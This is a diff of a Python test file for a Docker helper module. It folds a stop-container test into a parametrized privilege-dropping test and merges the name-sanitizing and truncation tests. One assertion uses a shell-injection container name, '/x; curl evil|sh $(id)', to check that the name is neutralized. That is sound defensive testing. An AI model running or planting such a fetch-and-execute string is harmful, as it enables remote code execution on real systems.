@@ -86,10 +86,14 @@ def test_a_daemon_that_answers_what_it_likes(
 
 
 @pytest.mark.root
-def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path) -> None:
-    uids = serve(directory / "s", lambda connection: connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n{}"))
+@pytest.mark.parametrize("stops", [False, True], ids=["asked", "asked to stop a container"])
+def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path, stops: bool) -> None:
+    uids = serve(directory / "s", head(b"204 No Content" if stops else b"200 OK\r\n\r\n{}"))
     (directory / "s").chmod(0o666)
-    assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
+    if stops:
+        docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
+    else:
+        assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
     assert uids == [UID]
     assert (os.geteuid(), os.getegid()) == (0, 0)
 
@@ -134,12 +138,9 @@ def test_an_image_for_another_processor(
     assert docker._other_processor(Subject(root=str(directory)), image) == found
 
 
-def test_a_name_says_nothing_to_a_shell() -> None:
+def test_a_name_says_nothing_to_a_shell_and_is_cut() -> None:
     assert docker.describe_end({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
     assert docker.describe_end({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
-
-
-def test_a_long_name_is_cut() -> None:
     assert len(str(docker.describe_end({"Name": "/\x1b" + "x" * 10_000}))) < 300
 
 
@@ -179,15 +180,6 @@ def test_a_daemon_that_does_not_stop_a_container(
         docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5 if "within" in problem else 30)
     assert "\x1b" not in str(caught.value)
     assert time.monotonic() - begin < 20
-
-
-@pytest.mark.root
-def test_a_container_is_stopped_as_its_person(directory: Path) -> None:
-    uids = serve(directory / "s", head(b"204 No Content"))
-    (directory / "s").chmod(0o666)
-    docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
-    assert uids == [UID]
-    assert (os.geteuid(), os.getegid()) == (0, 0)
 
 
 @pytest.mark.parametrize("listens", [True, False])
